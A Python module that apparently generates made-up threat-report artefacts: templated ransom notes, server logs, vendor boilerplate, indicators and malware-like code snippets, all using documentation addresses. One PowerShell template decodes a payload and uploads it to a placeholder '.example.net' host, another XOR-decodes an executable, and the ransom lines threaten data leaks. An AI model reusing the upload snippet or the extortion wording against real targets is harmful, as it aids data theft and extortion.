"""What plantings need and no real text lends: notes of extortionists, logs, code, boilerplate, names and indicators.

All of it is made up; addresses are of the ranges for documentation (RFC 5737, RFC 2606).
"""

import random
from datetime import date, timedelta

_NOTE = (
    (
        "All your files have been encrypted!",
        "ATTENTION! Your network has been locked.",
        "Hello! Your documents, databases and backups are no longer available.",
        "--- YOUR FILES ARE ENCRYPTED ---",
    ),
    (
        "We use strong algorithms and nobody can help you to restore the data without our key.",
        "Do not waste your time looking for other ways, only our key opens what was closed.",
        "Third-party recovery firms will take your money and come back to us, as always.",
    ),
    (
        "Before the lock we downloaded {size} GB of your private papers, contracts and payroll.",
        "More than {size} GB of your mail, accounts and client records are stored on our servers.",
        "We also took {size} GB from your file servers, and we have read what is in there.",
    ),
    (
        "If you do not write within {days} days, everything will be put on our page for everyone to see.",
        "You have {days} days; after that the price doubles and the first part goes public.",
        "Silence for {days} days means that you agree to publication.",
    ),
    (
        "Write to {mail} and put your personal ID {id} in the subject line.",
        "Open the Tor browser, go to {onion} and enter the code {id}.",
        "Contact us by {mail}, we answer within hours, your code is {id}.",
    ),
    (
        "You may send two small files and we open them for free, so you see that we keep our word.",
        "As proof we decrypt three pictures or documents for nothing, no larger than five megabytes.",
    ),
    (
        "Do not rename or move locked files, do not restart the machines, do not call the police.",
        "Do not try to edit encrypted files by yourself: it is easy to lose them for ever.",
    ),
    ("Have a nice day.", "Nothing personal, just business.", "We wait for you."),
)
_LOG = (
    "sshd[{n}]: Failed password for invalid user {user} from {ip} port {port} ssh2",
    "sshd[{n}]: Accepted publickey for {user} from {ip} port {port} ssh2: RSA SHA256:{hex}",
    "kernel: [{n}.{port}] TCP: request_sock_TCP: Possible SYN flooding on port {port}. Sending cookies.",
    'nginx: {ip} - - "POST /owa/auth/{user}.aspx HTTP/1.1" 200 {n} "-" "python-requests/2.25.1"',
    "Microsoft-Windows-Sysmon EventID=1 Image=C:\\Windows\\Temp\\{user}.exe ParentProcessId={n} Hashes=MD5={hex}",
    "systemd[1]: Started Session {n} of user {user}.",
    "named[{n}]: client {ip}#{port}: query: {user}.example.net IN TXT + (192.0.2.53)",
)
_CODE = (
    (
        "def {a}(data, key=0x{h}):\n    out = bytearray()\n    for i, byte in enumerate(data):\n"
        "        out.append(byte ^ ((key >> (i % 4 * 8)) & 0xff))\n    return bytes(out)\n\n"
        "{b} = {a}(open('{c}.dat', 'rb').read())\nif {b}[:2] == b'MZ':\n    with open('{c}.bin', 'wb') as handle:\n"
        "        handle.write({b})\n"
    ),
    (
        "$global:{a} = New-Object System.Net.WebClient\n${b} = [System.Convert]::FromBase64String('{h}{h}{h}=')\n"
        "for ($i = 0; $i -lt ${b}.Length; $i++) {{ ${b}[$i] = ${b}[$i] -bxor 0x{x} }}\n"
        "${a}.Headers.Add('User-Agent', 'Mozilla/4.0 ({c})')\n"
        "${a}.UploadData('http://{d}.example.net/{c}.php', ${b})\nStart-Sleep -Seconds {n}\n"
        "Remove-Item -Path $env:TEMP\\{c}.tmp -Force -ErrorAction SilentlyContinue\n"
    ),
    (
        'DWORD WINAPI {a}(LPVOID {b}) {{\n    HANDLE h{c} = CreateFileA("\\\\\\\\.\\\\pipe\\\\{d}", GENERIC_READ, 0, NULL, '
        "OPEN_EXISTING, 0, NULL);\n    char buffer[{n}];\n    DWORD read = 0;\n"
        "    while (ReadFile(h{c}, buffer, sizeof(buffer), &read, NULL) && read) {{\n"
        "        for (DWORD i = 0; i < read; i++) buffer[i] = (buffer[i] ^ 0x{x}) - {y};\n"
        "        {a}_dispatch({b}, buffer, read);\n    }}\n    CloseHandle(h{c});\n    return 0;\n}}\n"
    ),
)
_TEMPLATE = (
    (
        "Our research team follows criminal and state-backed activity around the clock and shares what it learns.",
        "We publish findings like these so that defenders everywhere can act on them sooner.",
        "This blog is written by analysts who track intrusions on behalf of customers in {n} countries.",
    ),
    (
        "Subscribe to the newsletter to receive new posts, webinars and reports directly in your inbox every {day}.",
        "Sign up for our weekly digest, delivered each {day}, and never miss a new publication again.",
    ),
    (
        "Customers are protected against the threats described here by signatures that were released in version {n}.",
        "Coverage for this activity is included in content update {n} and later, with no action needed from customers.",
    ),
    (
        "Contact our incident response hotline if you believe that your organisation has been affected by this activity.",
        "To learn more about our services or to request a demonstration, get in touch with your account manager.",
    ),
    (
        "All product names, logos and brands are property of their respective owners and used for identification only.",
        "The information is provided as is, without warranty of any kind, and may change without further notice.",
    ),
)
SPEAKERS = (
    ("the Ministry of the Interior", "the ministry", "a spokesperson for the ministry"),
    ("the public prosecutor", "the prosecutor's office", "prosecutors"),
    (
        "the national computer emergency response team",
        "the national CERT",
        "an official of the response team",
    ),
    ("the chief executive of the company", "the company", "a company spokesperson"),
    ("the Federal Bureau of Investigation", "the bureau", "the FBI"),
)
"""Who is quoted: names under which two texts may call the same."""
FRAMES = (
    ("“", "”, {} said on Monday."),
    ("In a statement, {} wrote: “", "”"),
    ('"', '," {} told reporters.'),
    ('According to {}, "', '".'),
    ("{} said: «", "»."),
    ("As {} put it, „", "“."),
    ('"', '" ({}).'),
)
"""What stands before and behind quoted words."""
MANNERS = (("", "", ""), ("```\n", "", "\n```"), ("", "    ", ""), ("", "> ", ""))
"""How a thing is shown: before it, before each line, behind it."""
_NOTE_INTROS = (
    "The ransom note reads:",
    "A text file with the following content was left in every folder:",
    "Victims find this message on the desktop:",
    "The attackers left a note:",
)
_LOG_INTROS = (
    "The log of the server shows the following:",
    "An extract of the log:",
    "We found these entries:",
    "The relevant lines are:",
)
_CODE_INTROS = (
    "The following listing shows the function:",
    "The decompiled code looks like this:",
    "The script contains:",
    "Its main part is shown below.",
)
_WORDS = """
Amber Ashen Bitter Boreal Cinder Copper Dusky Ember Frosted Gilded Hollow Iron Jaded Latent Misty Opal
Badger Condor Dormouse Egret Ferret Gecko Heron Ibex Jackdaw Kestrel Lynx Marten Newt Otter Petrel Quail
brisk cobalt drift elder flint grim husk loam murk north pale rook slate thorn veil wick
bolt cast door fang gate hook lure moth nest pike root shade trap vane worm yard
Monday Tuesday Wednesday Thursday Friday
"""
_FIRST, _SECOND, _START, _END, _DAYS = (line.split() for line in _WORDS.strip().splitlines())


def note(rng: random.Random) -> str:
    """Return a made-up note of an extortionist, 80 to 130 words on lines of their own."""
    fields = {
        "size": rng.randint(12, 900),
        "days": rng.randint(2, 9),
        "mail": f"{word(rng)}@{word(rng)}.example",
        "id": hexadecimal(rng, 12).upper(),
        "onion": f"{hexadecimal(rng, 16)}.onion",
    }
    return "\n".join(rng.choice(line).format(**fields) for line in _NOTE)


def log(rng: random.Random) -> str:
    """Return seven made-up lines of a log."""
    host, minute = word(rng), rng.randint(100, 1300)
    lines = []
    for number, shape in enumerate(rng.sample(_LOG, len(_LOG))):
        minute += rng.randint(0, 2)
        stamp = f"Mar {rng.randint(10, 28)} {minute // 60:02}:{minute % 60:02}:{rng.randint(0, 59):02}"
        fields = {
            "n": rng.randint(300, 9000) + number,
            "user": word(rng),
            "ip": address(rng),
            "port": rng.randint(1025, 65000),
            "hex": hexadecimal(rng, 32),
        }
        lines.append(f"{stamp} {host} {shape.format(**fields)}")
    return "\n".join(lines)


def code(rng: random.Random) -> str:
    """Return a made-up piece of Python, PowerShell or C."""
    fields = {name: word(rng) for name in "abcd"}
    numbers = {"n": rng.randint(30, 4096), "y": rng.randint(1, 90), "x": hexadecimal(rng, 2)}
    return rng.choice(_CODE).format(**fields, **numbers, h=hexadecimal(rng, 8)).rstrip("\n")


def boilerplate(rng: random.Random, lines: int = 5) -> str:
    """Return what a made-up publisher puts under every text: of five lines 60 to 90 words."""
    fields = {"n": rng.randint(12, 9000), "day": rng.choice(_DAYS)}
    return " ".join(rng.choice(line).format(**fields) for line in rng.sample(_TEMPLATE, lines))


def cast(rng: random.Random, size: int) -> list[str]:
    """Return names of a story: groups of two words, malware of one, all different."""
    groups = [f"{rng.choice(_FIRST)} {second}" for second in rng.sample(_SECOND, min(size, len(_SECOND)))]
    return [name if number % 2 else word(rng).capitalize() for number, name in enumerate(groups)]


def indicators(rng: random.Random, size: int) -> list[str]:
    """Return addresses, domains and digests, defanged here and there."""
    kinds = (address, lambda one: f"{word(one)}[.]example", lambda one: hexadecimal(one, 64))
    return [kinds[number % len(kinds)](rng) for number in range(size)]


def word(rng: random.Random) -> str:
    """Return a made-up name in small letters."""
    return rng.choice(_START) + rng.choice(_END)


def hexadecimal(rng: random.Random, digits: int) -> str:
    """Return so many hexadecimal digits."""
    return f"{rng.getrandbits(4 * digits):0{digits}x}"


def outlet(rng: random.Random, number: int) -> tuple[str, str]:
    """Return a made-up publisher and the address of its pages; another number gives another publisher."""
    name = f"{_START[number % len(_START)]}{rng.choice(_END)}"
    title = f"{name.capitalize()} {rng.choice(('Post', 'Daily', 'Wire', 'Labs', 'Review'))} {number // len(_START) or ''}".strip()
    return title, f"https://{title.replace(' ', '-').casefold()}.example"


def day(number: int) -> str:
    """Return a date so many days after the start of a made-up story."""
    return (date(2021, 3, 1) + timedelta(days=number)).isoformat()


def address(rng: random.Random) -> str:
    """Return an IPv4 address of a range for documentation (RFC 5737)."""
    return f"{rng.choice(('192.0.2', '198.51.100', '203.0.113'))}.{rng.randint(1, 254)}"


ARTEFACTS = {
    "ransom note": (note, _NOTE_INTROS),
    "log": (log, _LOG_INTROS),
    "code": (code, _CODE_INTROS),
}
"""What can be shown: how it is made up, and what introduces it."""
